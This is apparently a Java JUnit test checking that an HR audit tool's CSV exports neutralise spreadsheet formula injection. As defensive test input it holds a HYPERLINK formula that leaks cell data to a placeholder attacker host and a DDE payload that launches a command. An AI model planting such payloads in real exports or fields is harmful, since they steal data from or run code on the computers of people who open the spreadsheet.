package io.foothold.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;

import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpStatus;

import io.foothold.support.FootholdSpringTest;

/**
 * A name or answer that starts like a spreadsheet formula (=, +, -, @, tab, carriage return) is exported as text:
 * HR opens the CSV in a spreadsheet, which would otherwise run it (OWASP "CSV injection").
 */
@FootholdSpringTest
class CsvFormulaInjectionTest {

  private static final String PLAYBOOK = "audit-csv-injection-test";
  private static final String FORMULA = "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"Sam\")";

  @Autowired TestRestTemplate web;
  @Autowired RepositoryService repository;
  @Autowired RuntimeService runtime;
  @Autowired TaskService tasks;

  @Test
  void cellsThatStartLikeAFormulaAreExportedAsText() {
    TestPlaybooks.oneStep(repository, PLAYBOOK, "AuditCsvInjectionCase");
    String caseId = runtime.startProcessInstanceByKey("AuditCsvInjectionCase",
        Map.of("managerId", "maya", "employeeId", "@SUM(1+1)*cmd|' /C calc'!A0", "employeeName", FORMULA)).getId();

    var list = AuditApi.as(web, "hana").get("/api/audit/cases.csv?playbook=" + PLAYBOOK);
    var timeline = AuditApi.as(web, "hana").get("/api/audit/cases/" + caseId + ".csv");

    assertThat(list.getStatusCode()).isEqualTo(HttpStatus.OK);
    List<String> rows = list.getBody().lines().toList();
    assertThat(rows).hasSize(2);
    assertThat(rows.get(1)).contains(",'@SUM(1+1)*cmd|' /C calc'!A0,").contains(",\"'=HYPERLINK(")
        .doesNotContain(",=").doesNotContain(",@").doesNotContain(",\"=");
    assertThat(timeline.getStatusCode()).isEqualTo(HttpStatus.OK);
    assertThat(timeline.getBody().lines().skip(1)).allSatisfy(row -> assertThat(row).doesNotContain(",=", ",@", ",+", ",\"="));
  }

  @Test
  void onlyTextThatStartsLikeAFormulaChanges() {
    assertThat(SpreadsheetCells.neutralised("=1+1")).isEqualTo("'=1+1");
    assertThat(SpreadsheetCells.neutralised("+1")).isEqualTo("'+1");
    assertThat(SpreadsheetCells.neutralised("-1")).isEqualTo("'-1");
    assertThat(SpreadsheetCells.neutralised("@x")).isEqualTo("'@x");
    assertThat(SpreadsheetCells.neutralised("\t=x")).isEqualTo("'\t=x");
    assertThat(SpreadsheetCells.neutralised("\r=x")).isEqualTo("'\r=x");
    assertThat(SpreadsheetCells.neutralised("Lea Brandt")).isEqualTo("Lea Brandt");
    assertThat(SpreadsheetCells.neutralised("")).isEqualTo("");
    assertThat(SpreadsheetCells.neutralised(-3)).isEqualTo(-3);
    assertThat(SpreadsheetCells.neutralised(true)).isEqualTo(true);
    assertThat(SpreadsheetCells.neutralised((Object) null)).isNull();
  }
}
